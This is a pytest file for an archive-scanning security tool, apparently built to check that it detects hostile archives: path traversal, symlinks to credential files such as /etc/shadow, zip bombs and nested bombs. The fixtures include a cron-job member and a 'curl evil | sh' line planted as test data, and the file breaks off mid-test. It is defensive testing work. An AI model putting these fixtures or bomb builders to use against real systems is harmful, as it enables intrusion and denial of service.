"""The virtual tree: folders, zips, tars, compressed streams, container images, and hostile archives.

Every archive is built in code at test time. Scans go through ``sas.scan.engine.scan`` with a recording
analyzer, and a few through the ``sas`` command for exit codes.
"""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import stat
import struct
import sys
import tarfile
import tracemalloc
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import lz4.frame
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sas.cli import main
from sas.scan.analyzer import Analyzer
from sas.scan.artifact import VirtualFile
from sas.scan.context import ScanContext
from sas.scan.engine import scan
from sas.scan.findings import ScanResult
from sas.scan.settings import Limits, ScanSettings

MiB = 1024 * 1024


@dataclass
class Seen:
    path: str
    data: bytes
    depth: int
    size: int


@dataclass
class Recorder(Analyzer):
    """Reads every file it is offered in full (as the pickle analyzer streams) and consumes nothing."""

    name: str = "recorder"
    seen: list[Seen] = field(default_factory=list)

    def claims(self, file: VirtualFile) -> bool:
        return True

    def analyze(self, file: VirtualFile, ctx: ScanContext) -> bool:
        with file.open() as stream:
            data = stream.read()
        self.seen.append(Seen(file.path, data, file.depth, file.size))
        return False

    @property
    def paths(self) -> list[str]:
        return [s.path for s in self.seen]

    def data(self, path: str) -> bytes:
        return next(s.data for s in self.seen if s.path == path)


@pytest.fixture
def recorder() -> Recorder:
    return Recorder()


# Larger than the members a streamed tar keeps in memory (4 MiB), so the live-stream path is exercised;
# repetitive so that compressing it in tests stays fast, varied enough not to look like a bomb.
LARGE = os.urandom(4096) * 1200
PAYLOAD = pickle.dumps({"weights": [1.0, 2.0, 3.0]}, protocol=4)


def rule_ids(result: ScanResult) -> list[str]:
    return sorted(f.rule_id for f in result.findings)


def findings_of(result: ScanResult, rule_id: str) -> list[str]:
    return sorted(f.location.path for f in result.findings if f.rule_id == rule_id)


def tar_bytes(members: list[tarfile.TarInfo | tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.PAX_FORMAT) as tar:  # type: ignore[call-overload]
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                tar.addfile(member)
            else:
                name, data = member
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def zip_bytes(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def run(target: Path, recorder: Recorder, **limits: int | float) -> ScanResult:
    settings = ScanSettings(limits=Limits(**limits)) if limits else ScanSettings()  # type: ignore[arg-type]
    return scan(target, settings, analyzers=[recorder])


# -- compressed single files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "compress", "member"),
    [
        ("model.pkl.gz", gzip.compress, "model.pkl.gz!model.pkl"),
        ("model.pkl.bz2", bz2.compress, "model.pkl.bz2!model.pkl"),
        ("model.pkl.xz", lzma.compress, "model.pkl.xz!model.pkl"),
        ("model.lzma", lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE), "model.lzma!model"),
        ("model.joblib", zlib.compress, "model.joblib![zlib]"),
        ("model.pkl.lz4", lz4.frame.compress, "model.pkl.lz4!model.pkl"),
        ("model.joblib.z", lambda d: gzip.compress(d), "model.joblib.z!model.joblib"),
    ],
)
def test_compressed_single_file_is_one_decompressed_member(
    tmp_path: Path, recorder: Recorder, name: str, compress: object, member: str
) -> None:
    (tmp_path / name).write_bytes(compress(PAYLOAD))  # type: ignore[operator]
    result = run(tmp_path, recorder)
    assert recorder.paths == [name, member]
    assert recorder.data(member) == PAYLOAD
    assert recorder.seen[1].depth == 1 and recorder.seen[1].size == len(PAYLOAD)
    assert result.findings == () and result.errors == ()


def test_compression_is_recognised_by_content_not_name(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "weights.bin").write_bytes(lzma.compress(PAYLOAD, format=lzma.FORMAT_ALONE))
    (tmp_path / "clf.dat").write_bytes(zlib.compress(PAYLOAD, 3))
    run(tmp_path, recorder)
    assert recorder.data("clf.dat![zlib]") == PAYLOAD
    assert recorder.data("weights.bin![lzma]") == PAYLOAD


def test_weak_magic_on_plain_files_is_silent(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "notes.txt").write_bytes(b"x\x9cthis is just text that starts like zlib")
    (tmp_path / "data.bin").write_bytes(b"\x5d\x00\x00\x80\x00" + b"\xff" * 8 + b"not lzma at all" * 4)
    result = run(tmp_path, recorder)
    assert recorder.paths == ["data.bin", "notes.txt"]
    assert result.findings == () and result.errors == ()


@pytest.mark.parametrize(
    ("name", "compress"),
    [("model.pkl.gz", gzip.compress), ("model.pkl.bz2", bz2.compress), ("model.pkl.xz", lzma.compress)],
)
def test_truncated_compressed_file_is_a_finding(
    tmp_path: Path, recorder: Recorder, name: str, compress: object
) -> None:
    data = compress(os.urandom(64 * 1024))  # type: ignore[operator]
    (tmp_path / name).write_bytes(data[: len(data) // 2])
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-004") == [name]
    assert result.errors == ()


def test_truncated_zlib_stream_after_valid_start_is_a_finding(tmp_path: Path, recorder: Recorder) -> None:
    data = zlib.compress(os.urandom(64 * 1024))
    (tmp_path / "model.joblib").write_bytes(data[: len(data) // 2])
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-004") == ["model.joblib"]


# -- zip and tar --------------------------------------------------------------------------------------------


def test_nested_zip_tar_gz_paths_chain_with_bang(tmp_path: Path, recorder: Recorder) -> None:
    inner = tar_bytes([("c/d.pkl", PAYLOAD)], "w:gz")
    (tmp_path / "a.zip").write_bytes(zip_bytes({"b.tar.gz": inner, "python/model.pkl": PAYLOAD}))
    result = run(tmp_path, recorder)
    assert recorder.paths == ["a.zip", "a.zip!b.tar.gz", "a.zip!b.tar.gz!c/d.pkl", "a.zip!python/model.pkl"]
    assert recorder.data("a.zip!b.tar.gz!c/d.pkl") == PAYLOAD
    assert [s.depth for s in recorder.seen] == [0, 1, 2, 1]
    assert result.findings == ()


def test_scan_target_that_is_an_archive_uses_its_name(tmp_path: Path, recorder: Recorder) -> None:
    target = tmp_path / "layer.zip"
    target.write_bytes(zip_bytes({"python/model.pkl": PAYLOAD}))
    result = run(target, recorder)
    assert result.target == "layer.zip"
    assert recorder.paths == ["layer.zip", "layer.zip!python/model.pkl"]


@pytest.mark.parametrize("mode", ["w", "w:gz", "w:bz2", "w:xz"])
def test_tar_flavours(tmp_path: Path, recorder: Recorder, mode: str) -> None:
    big = LARGE if mode != "w:bz2" else os.urandom(300_000)  # bzip2 is slow to write; gz and xz cover streaming
    (tmp_path / "pkg.tar").write_bytes(tar_bytes([("app/model.pkl", PAYLOAD), ("app/big.bin", big)], mode))
    result = run(tmp_path, recorder)
    assert recorder.paths == ["pkg.tar", "pkg.tar!app/model.pkl", "pkg.tar!app/big.bin"]
    assert recorder.data("pkg.tar!app/model.pkl") == PAYLOAD
    assert recorder.data("pkg.tar!app/big.bin") == big
    assert result.findings == ()


def test_tar_with_parent_and_absolute_members(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "evil.tar").write_bytes(
        tar_bytes([("../../outside.pkl", PAYLOAD), ("/etc/cron.d/job", b"* * * * * root sh"), ("a/../b.txt", b"ok")])
    )
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-002") == ["evil.tar!../../outside.pkl", "evil.tar!/etc/cron.d/job"]
    # the content is still scanned: a payload does not hide behind a hostile name
    assert recorder.data("evil.tar!../../outside.pkl") == PAYLOAD


def test_tar_links_that_leave_the_tree(tmp_path: Path, recorder: Recorder) -> None:
    members: list[tarfile.TarInfo | tuple[str, bytes]] = [
        ("app/model.pkl", PAYLOAD),
        link("app/creds", "/root/.aws/credentials"),
        link("app/up", "../../etc/passwd"),
        link("app/fine", "model.pkl"),
        link("app/hard", "../../etc/shadow", tarfile.LNKTYPE),
        link("app/hard_ok", "app/model.pkl", tarfile.LNKTYPE),
    ]
    (tmp_path / "pkg.tar.gz").write_bytes(tar_bytes(members, "w:gz"))
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-003") == ["pkg.tar.gz!app/creds", "pkg.tar.gz!app/hard", "pkg.tar.gz!app/up"]
    assert recorder.paths == ["pkg.tar.gz", "pkg.tar.gz!app/model.pkl"]


def test_tar_devices_and_fifos_are_findings_not_read(tmp_path: Path, recorder: Recorder) -> None:
    fifo = tarfile.TarInfo("app/pipe")
    fifo.type = tarfile.FIFOTYPE
    dev = tarfile.TarInfo("app/mem")
    dev.type = tarfile.CHRTYPE
    (tmp_path / "pkg.tar").write_bytes(tar_bytes([fifo, dev, ("app/x.txt", b"x")]))
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-008") == ["pkg.tar!app/mem", "pkg.tar!app/pipe"]


def test_zip_symlink_leaving_the_tree(tmp_path: Path, recorder: Recorder) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, target in (("python/creds", "/proc/self/environ"), ("python/ok", "model.pkl")):
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, target)
        zf.writestr("python/model.pkl", PAYLOAD)
    (tmp_path / "layer.zip").write_bytes(buf.getvalue())
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-003") == ["layer.zip!python/creds"]
    assert "layer.zip!python/ok" not in recorder.paths


def test_zip_duplicate_names(tmp_path: Path, recorder: Recorder) -> None:
    buf = io.BytesIO()
    with pytest.warns(UserWarning), zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("model.pkl", b"benign")
        zf.writestr("model.pkl", PAYLOAD)
    (tmp_path / "fn.zip").write_bytes(buf.getvalue())
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-007") == ["fn.zip!model.pkl"]
    assert sorted(s.data for s in recorder.seen if s.path == "fn.zip!model.pkl") == sorted([b"benign", PAYLOAD])


def test_zip_traversal_member(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "fn.zip").write_bytes(zip_bytes({"../../../tmp/x.pkl": PAYLOAD, "ok.txt": b"1"}))
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-002") == ["fn.zip!../../../tmp/x.pkl"]


def test_truncated_zip_still_visits_what_is_readable(tmp_path: Path, recorder: Recorder) -> None:
    whole = zip_bytes({"a.pkl": PAYLOAD, "b.bin": os.urandom(200_000), "c.bin": os.urandom(5000)})
    (tmp_path / "fn.zip").write_bytes(whole[: len(whole) - 300])  # central directory and the end of c.bin gone
    result = run(tmp_path, recorder)
    assert "SAS-ARC-004" in rule_ids(result)
    assert recorder.data("fn.zip!a.pkl") == PAYLOAD
    assert len(recorder.data("fn.zip!b.bin")) == 200_000
    assert "fn.zip!c.bin" in findings_of(result, "SAS-ARC-004")  # cut off: read as far as it goes
    assert result.errors == ()


def test_zip_with_corrupt_member_data(tmp_path: Path, recorder: Recorder) -> None:
    data = bytearray(zip_bytes({"a.pkl": PAYLOAD * 50, "b.txt": b"fine"}))
    start = data.index(b"a.pkl") + len("a.pkl") + 10
    data[start : start + 20] = b"\xff" * 20
    (tmp_path / "fn.zip").write_bytes(bytes(data))
    result = run(tmp_path, recorder)
    assert "fn.zip!a.pkl" in findings_of(result, "SAS-ARC-004")
    assert recorder.data("fn.zip!b.txt") == b"fine"


def test_truncated_tar_visits_members_before_the_damage(tmp_path: Path, recorder: Recorder) -> None:
    whole = tar_bytes([("a.pkl", PAYLOAD), ("b.bin", os.urandom(100_000)), ("c.pkl", PAYLOAD)])
    cut = whole.index(b"c.pkl") - 40_000  # inside b.bin
    (tmp_path / "pkg.tar").write_bytes(whole[:cut])
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-004")[0].startswith("pkg.tar")
    assert recorder.data("pkg.tar!a.pkl") == PAYLOAD


def test_truncated_tar_gz(tmp_path: Path, recorder: Recorder) -> None:
    whole = tar_bytes([("a.pkl", PAYLOAD), ("b.bin", os.urandom(300_000))], "w:gz")
    (tmp_path / "pkg.tgz").write_bytes(whole[: len(whole) // 2])
    result = run(tmp_path, recorder)
    assert "SAS-ARC-004" in rule_ids(result)
    assert recorder.data("pkg.tgz!a.pkl") == PAYLOAD
    assert result.errors == ()


def test_tar_cut_at_a_block_boundary_is_truncated(tmp_path: Path, recorder: Recorder) -> None:
    whole = tar_bytes([("a.pkl", PAYLOAD), ("b.txt", b"b" * 600)])
    (tmp_path / "pkg.tar").write_bytes(whole[:1024])  # header + data of a.pkl, nothing after
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-004") == ["pkg.tar"]


# -- hostile sizes ------------------------------------------------------------------------------------------


def _zeros_zip(path: Path, megabytes: int) -> None:
    chunk = bytes(MiB)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("zeros.bin", "w") as out:
        for _ in range(megabytes):
            out.write(chunk)


def test_zip_bomb_with_default_limits(tmp_path: Path, recorder: Recorder) -> None:
    _zeros_zip(tmp_path / "bomb.zip", 200)  # 200 MB of zeros in ~200 KB
    assert (tmp_path / "bomb.zip").stat().st_size < 2 * MiB
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-001") == ["bomb.zip!zeros.bin"]
    assert recorder.paths == ["bomb.zip"]  # the bomb member itself is never inflated


def test_gzip_bomb_stops_at_the_limit_while_decompressing(tmp_path: Path, recorder: Recorder) -> None:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    with (tmp_path / "model.pkl.gz").open("wb") as fh:
        for _ in range(64):
            fh.write(compressor.compress(bytes(MiB)))
        fh.write(compressor.flush())
    ctx_total: list[int] = []

    class Total(Analyzer):
        def claims(self, file: VirtualFile) -> bool:
            return False

        def analyze(self, file: VirtualFile, ctx: ScanContext) -> bool:
            return False

        def finish(self, ctx: ScanContext) -> None:
            ctx_total.append(ctx.total_bytes_seen)

    settings = ScanSettings(limits=Limits(ratio_floor=MiB, max_ratio=10))
    result = scan(tmp_path, settings, analyzers=[Total()])
    assert findings_of(result, "SAS-ARC-001") == ["model.pkl.gz"]
    assert ctx_total[0] < 4 * MiB  # stopped soon after the floor, not after 64 MiB


def test_configured_total_limit(tmp_path: Path, recorder: Recorder) -> None:
    for i in range(3):
        (tmp_path / f"part{i}.gz").write_bytes(gzip.compress(os.urandom(MiB)))
    (tmp_path / "z.zip").write_bytes(zip_bytes({"late.pkl": PAYLOAD}))
    result = run(tmp_path, recorder, max_total_bytes=2 * MiB + 1000)
    # part2 crosses the limit; what comes after is reported at its own path, not skipped in silence
    assert findings_of(result, "SAS-ARC-001") == ["part2.gz", "z.zip!late.pkl"]
    assert recorder.data("part0.gz!part0") and recorder.data("part1.gz!part1")


def test_per_file_limit_from_headers(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "pkg.tar").write_bytes(tar_bytes([("big.bin", os.urandom(2 * MiB)), ("ok.txt", b"ok")]))
    result = run(tmp_path, recorder, max_file_bytes=MiB)
    assert findings_of(result, "SAS-ARC-001") == ["pkg.tar!big.bin"]
    assert "pkg.tar!ok.txt" in recorder.paths


def test_overlapping_zip_members_are_a_bomb(tmp_path: Path, recorder: Recorder) -> None:
    # Two central-directory entries over the same local file (the non-recursive zip bomb construction).
    data = zip_bytes({"a.bin": bytes(1000)})
    cd = data.index(b"PK\x01\x02")
    eocd = data.index(b"PK\x05\x06")
    entry = data[cd:eocd]
    second = entry.replace(b"a.bin", b"b.bin")
    tail = bytearray(data[eocd:])
    tail[8:10] = (2).to_bytes(2, "little")
    tail[10:12] = (2).to_bytes(2, "little")
    tail[12:16] = (len(entry) * 2).to_bytes(4, "little")
    (tmp_path / "overlap.zip").write_bytes(data[:cd] + entry + second + bytes(tail))
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-001") == ["overlap.zip"]


def test_nested_zip_depth_bomb(tmp_path: Path, recorder: Recorder) -> None:
    data = PAYLOAD
    for level in range(8):
        data = zip_bytes({f"level{level}.zip" if level else "model.pkl": data})
    (tmp_path / "deep.zip").write_bytes(data)
    result = run(tmp_path, recorder, max_depth=3)
    assert len(findings_of(result, "SAS-ARC-005")) == 1
    assert max(s.depth for s in recorder.seen) == 3


def test_member_count_limit(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "many.zip").write_bytes(zip_bytes({f"f{i}.txt": b"x" for i in range(20)}))
    (tmp_path / "many.tar").write_bytes(tar_bytes([(f"f{i}.txt", b"x") for i in range(20)]))
    result = run(tmp_path, recorder, max_members=5)
    assert findings_of(result, "SAS-ARC-006") == ["many.tar", "many.zip"]
    # the first members are still scanned, the zip's from its local headers (its directory is never loaded)
    assert sum(p.startswith("many.zip!") for p in recorder.paths) == 5
    assert sum(p.startswith("many.tar!") for p in recorder.paths) == 5


def test_zip64_member_count_is_read_before_the_directory(tmp_path: Path, recorder: Recorder) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i in range(8):
            zf.writestr(f"f{i}.txt", b"x")
    data = bytearray(buf.getvalue())
    # Rewrite the end record as zip64: count 0xFFFF in the classic record, the real count in a zip64 record.
    eocd = data.rindex(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack_from("<II", data, eocd + 12)
    zip64 = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 8, 8, cd_size, cd_offset)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, eocd, 1)
    classic = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, cd_size, cd_offset, 0)
    (tmp_path / "z64.zip").write_bytes(bytes(data[:eocd]) + zip64 + locator + classic)
    result = run(tmp_path, recorder, max_members=3)
    assert findings_of(result, "SAS-ARC-006") == ["z64.zip"]
    assert sum(p.startswith("z64.zip!") for p in recorder.paths) == 3
    recorder.seen.clear()
    result = run(tmp_path, recorder)
    assert sum(p.startswith("z64.zip!") for p in recorder.paths) == 8 and result.findings == ()


@dataclass
class ChunkReader(Analyzer):
    """Reads each file in 1 MiB chunks and keeps only a hash, as a streaming analyzer does."""

    name: str = "chunks"
    digests: dict[str, str] = field(default_factory=dict)

    def claims(self, file: VirtualFile) -> bool:
        return True

    def analyze(self, file: VirtualFile, ctx: ScanContext) -> bool:
        h = hashlib.sha256()
        with file.open() as stream:
            while chunk := stream.read(MiB):
                h.update(chunk)
        self.digests[file.path] = h.hexdigest()
        return False


def test_memory_stays_bounded_on_a_large_compressed_tar(tmp_path: Path) -> None:
    block = os.urandom(MiB)
    path = tmp_path / "big.tar.gz"
    with tarfile.open(path, "w:gz", compresslevel=1) as tar:
        info = tarfile.TarInfo("weights.bin")
        info.size = 96 * MiB

        class Repeat(io.RawIOBase):
            left = info.size

            def readable(self) -> bool:
                return True

            def readinto(self, b: bytearray | memoryview) -> int:  # type: ignore[override]
                n = min(len(b), self.left, len(block))
                b[:n] = block[:n]
                self.left -= n
                return n

        tar.addfile(info, io.BufferedReader(Repeat()))
    reader = ChunkReader()
    tracemalloc.start()
    try:
        scan(tmp_path, analyzers=[reader])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "big.tar.gz!weights.bin" in reader.digests
    assert peak < 24 * MiB


# -- files, folders, names -----------------------------------------------------------------------------------


def test_zero_byte_and_misnamed_files(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "model.pkl").write_bytes(b"")
    (tmp_path / "__init__.py").write_bytes(b"")
    (tmp_path / "package.zip").write_text("this is not a zip\n")
    (tmp_path / "model.npy").write_text("nope")
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-SCAN-003") == ["model.npy", "model.pkl", "package.zip"]
    assert result.errors == ()


def test_directory_symlink_loop_does_not_hang(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "a" / "b").mkdir(parents=True)
    (tmp_path / "a" / "b" / "model.pkl").write_bytes(PAYLOAD)
    (tmp_path / "a" / "b" / "loop").symlink_to("..", target_is_directory=True)
    (tmp_path / "a" / "self").symlink_to(".", target_is_directory=True)
    (tmp_path / "a" / "etc").symlink_to("/etc", target_is_directory=True)
    result = run(tmp_path, recorder)
    assert recorder.paths == ["a/b/model.pkl"]
    assert findings_of(result, "SAS-ARC-003") == ["a/etc"]


def test_fifo_in_folder_is_not_opened(tmp_path: Path, recorder: Recorder) -> None:
    os.mkfifo(tmp_path / "pipe")
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-008") == ["pipe"]


def test_target_given_as_symlink_to_folder_is_walked(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "m.pkl").write_bytes(PAYLOAD)
    (tmp_path / "alias").symlink_to(tmp_path / "real", target_is_directory=True)
    run(tmp_path / "alias", recorder)
    assert recorder.paths == ["m.pkl"]


# -- seekable access ---------------------------------------------------------------------------------------


@dataclass
class SeekReader(Analyzer):
    """Opens files with open_seekable() and reads the tail first, as zip-based model loaders do."""

    name: str = "seek"
    tails: dict[str, bytes] = field(default_factory=dict)
    kinds: dict[str, str] = field(default_factory=dict)

    def claims(self, file: VirtualFile) -> bool:
        return file.name.endswith(".bin")

    def analyze(self, file: VirtualFile, ctx: ScanContext) -> bool:
        with file.open_seekable() as stream:
            assert stream.seekable()
            stream.seek(-4, io.SEEK_END)
            self.tails[file.path] = stream.read()
            stream.seek(0)
            assert len(stream.read()) == file.size
            self.kinds[file.path] = type(stream).__name__
        return False


def test_open_seekable_for_stored_deflated_and_streamed_members(tmp_path: Path) -> None:
    small, large = os.urandom(1000) + b"TAIL", LARGE + b"LAST"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("stored.bin", small, zipfile.ZIP_STORED)
        zf.writestr("deflated.bin", small, zipfile.ZIP_DEFLATED)
        zf.writestr("large.bin", large, zipfile.ZIP_DEFLATED)
    (tmp_path / "fn.zip").write_bytes(buf.getvalue())
    (tmp_path / "pkg.tgz").write_bytes(tar_bytes([("in.bin", large)], "w:gz"))
    reader = SeekReader()
    scan(tmp_path, ScanSettings(limits=Limits(spool_bytes=MiB)), analyzers=[reader])
    assert reader.tails == {
        "fn.zip!stored.bin": b"TAIL",
        "fn.zip!deflated.bin": b"TAIL",
        "fn.zip!large.bin": b"LAST",
        "pkg.tgz!in.bin": b"LAST",
    }
    assert reader.kinds["fn.zip!stored.bin"] == "ZipExtFile"  # read in place
    assert reader.kinds["fn.zip!deflated.bin"] == "BytesIO"  # small: buffered in memory
    assert reader.kinds["fn.zip!large.bin"] == "BufferedRandom"  # above spool_bytes: anonymous temp file


@dataclass
class LateReader(Analyzer):
    """Keeps files and reads them in finish(), after the walk has closed their archives."""

    name: str = "late"
    kept: list[VirtualFile] = field(default_factory=list)
    contents: dict[str, bytes] = field(default_factory=dict)

    def claims(self, file: VirtualFile) -> bool:
        return file.name.endswith(".pkl")

    def analyze(self, file: VirtualFile, ctx: ScanContext) -> bool:
        self.kept.append(file)
        return False

    def finish(self, ctx: ScanContext) -> None:
        for file in self.kept:
            with file.open() as stream:
                self.contents[file.path] = stream.read()


def test_members_can_be_read_after_the_walk(tmp_path: Path) -> None:
    big = PAYLOAD + LARGE
    (tmp_path / "fn.zip").write_bytes(zip_bytes({"a.pkl": PAYLOAD}))
    (tmp_path / "pkg.tgz").write_bytes(tar_bytes([("b.pkl", big), ("c.txt", b"c")], "w:gz"))
    (tmp_path / "pkg.tar").write_bytes(tar_bytes([("d.pkl", PAYLOAD)]))
    reader = LateReader()
    scan(tmp_path, analyzers=[reader])
    assert reader.contents == {"fn.zip!a.pkl": PAYLOAD, "pkg.tgz!b.pkl": big, "pkg.tar!d.pkl": PAYLOAD}


# -- the sas command ----------------------------------------------------------------------------------------


def test_cli_exit_codes_on_archives(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = tmp_path / "good"
    good.mkdir()
    (good / "fn.zip").write_bytes(zip_bytes({"app.py": b"def handler(e, c):\n    return 1\n"}))
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "pkg.tar").write_bytes(tar_bytes([("../../etc/profile.d/x.sh", b"curl evil | sh")]))
    assert main(["scan", str(good), "--format", "json"]) == 0
    capsys.readouterr()
    assert main(["scan", str(bad), "--format", "json"]) == 1
    report = json.loads(capsys.readouterr().out)
    traversal = [f for f in report["findings"] if f["rule_id"] == "SAS-ARC-002"]
    assert [f["location"]["path"] for f in traversal] == ["pkg.tar!../../etc/profile.d/x.sh"]


def test_cli_zip_bomb_is_a_finding_not_a_crash(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _zeros_zip(tmp_path / "bomb.zip", 40)
    assert main(["scan", str(tmp_path / "bomb.zip"), "--format", "json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert "SAS-ARC-001" in {f["rule_id"] for f in report["findings"]}


# -- container images ---------------------------------------------------------------------------------------


V1, V2 = pickle.dumps("v1"), pickle.dumps("v2")


def _whiteout_layers() -> tuple[bytes, bytes]:
    lower = tar_bytes(
        [
            ("app/model.pkl", V1),
            ("app/old.pkl", PAYLOAD),
            ("app/dir/x.pkl", PAYLOAD),
            ("etc/keep.txt", b"keep"),
            ("var/lib/gone/a.txt", b"a"),
        ]
    )
    upper = tar_bytes(
        [
            ("app/model.pkl", V2),
            ("app/.wh.old.pkl", b""),
            ("app/dir/.wh..wh..opq", b""),
            ("app/dir/new.pkl", PAYLOAD),
            ("var/lib/.wh.gone", b""),
        ]
    )
    return lower, upper


MERGED = ["image.tar!app/model.pkl", "image.tar!app/dir/new.pkl", "image.tar!etc/keep.txt"]


def _digest(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def test_docker_save_image_layers_merge_with_whiteouts(tmp_path: Path, recorder: Recorder) -> None:
    lower, upper = _whiteout_layers()
    ids = [_digest(lower), _digest(upper)]
    manifest = [{"Config": "config.json", "RepoTags": ["fn:latest"], "Layers": [f"{i}/layer.tar" for i in ids]}]
    image = tar_bytes(
        [
            (f"{ids[0]}/layer.tar", lower),
            (f"{ids[1]}/layer.tar", upper),
            ("config.json", b'{"config": {}}'),
            ("manifest.json", json.dumps(manifest).encode()),
        ]
    )
    (tmp_path / "image.tar").write_bytes(image)
    result = run(tmp_path, recorder)
    assert recorder.paths == ["image.tar", *MERGED]
    assert recorder.data("image.tar!app/model.pkl") == V2  # the upper layer wins
    assert result.findings == () and result.errors == ()
    assert any("2 layers merged" in note for note in result.notes)


def test_docker_save_layer_stored_once_and_linked(tmp_path: Path, recorder: Recorder) -> None:
    lower, upper = _whiteout_layers()
    ids = [_digest(lower), _digest(upper)]
    manifest = [{"Config": "c.json", "Layers": [f"{ids[0]}/layer.tar", f"{ids[1]}/layer.tar"]}]
    image = tar_bytes(
        [
            (f"{ids[1]}/layer.tar", upper),
            ("shared/layer.tar", lower),
            link(f"{ids[0]}/layer.tar", "../shared/layer.tar"),
            ("manifest.json", json.dumps(manifest).encode()),
        ]
    )
    (tmp_path / "image.tar").write_bytes(image)
    result = run(tmp_path, recorder)
    assert recorder.paths == ["image.tar", *MERGED]
    assert result.findings == ()


def _oci_layout(layers: list[bytes], media: str, *, multi_platform: bool = False) -> bytes:
    blobs: list[tuple[str, bytes]] = []

    def blob(data: bytes) -> dict[str, object]:
        blobs.append((f"blobs/sha256/{_digest(data)}", data))
        return {"digest": f"sha256:{_digest(data)}", "size": len(data)}

    config = blob(b'{"architecture": "amd64", "os": "linux"}')
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": {**config, "mediaType": "application/vnd.oci.image.config.v1+json"},
            "layers": [{**blob(layer), "mediaType": media} for layer in layers],
        }
    ).encode()
    top = {**blob(manifest), "mediaType": "application/vnd.oci.image.manifest.v1+json"}
    if multi_platform:
        arm = {**blob(b"{}"), "platform": {"os": "linux", "architecture": "arm64"}}
        nested = json.dumps(
            {"schemaVersion": 2, "manifests": [arm, {**top, "platform": {"os": "linux", "architecture": "amd64"}}]}
        )
        top = {**blob(nested.encode()), "mediaType": "application/vnd.oci.image.index.v1+json"}
    index = json.dumps({"schemaVersion": 2, "manifests": [top]}).encode()
    return tar_bytes([*blobs, ("index.json", index), ("oci-layout", b'{"imageLayoutVersion": "1.0.0"}')])


def test_oci_layout_with_gzip_layers(tmp_path: Path, recorder: Recorder) -> None:
    lower, upper = _whiteout_layers()
    layers = [gzip.compress(lower), gzip.compress(upper)]
    (tmp_path / "image.tar").write_bytes(
        _oci_layout(layers, "application/vnd.oci.image.layer.v1.tar+gzip", multi_platform=True)
    )
    result = run(tmp_path, recorder)
    assert recorder.paths == ["image.tar", *MERGED]
    assert recorder.data("image.tar!app/dir/new.pkl") == PAYLOAD
    assert result.findings == () and result.errors == ()


def test_gzipped_image_tarball_is_merged_too(tmp_path: Path, recorder: Recorder) -> None:
    lower, upper = _whiteout_layers()
    layout = _oci_layout([gzip.compress(lower), upper], "application/vnd.oci.image.layer.v1.tar")
    (tmp_path / "image.tar.gz").write_bytes(gzip.compress(layout))
    result = run(tmp_path, recorder)
    assert recorder.paths == ["image.tar.gz", *(p.replace("image.tar!", "image.tar.gz!") for p in MERGED)]
    assert result.findings == ()


def test_oci_layout_with_zstd_layer(tmp_path: Path, recorder: Recorder) -> None:
    zstandard = pytest.importorskip("zstandard")
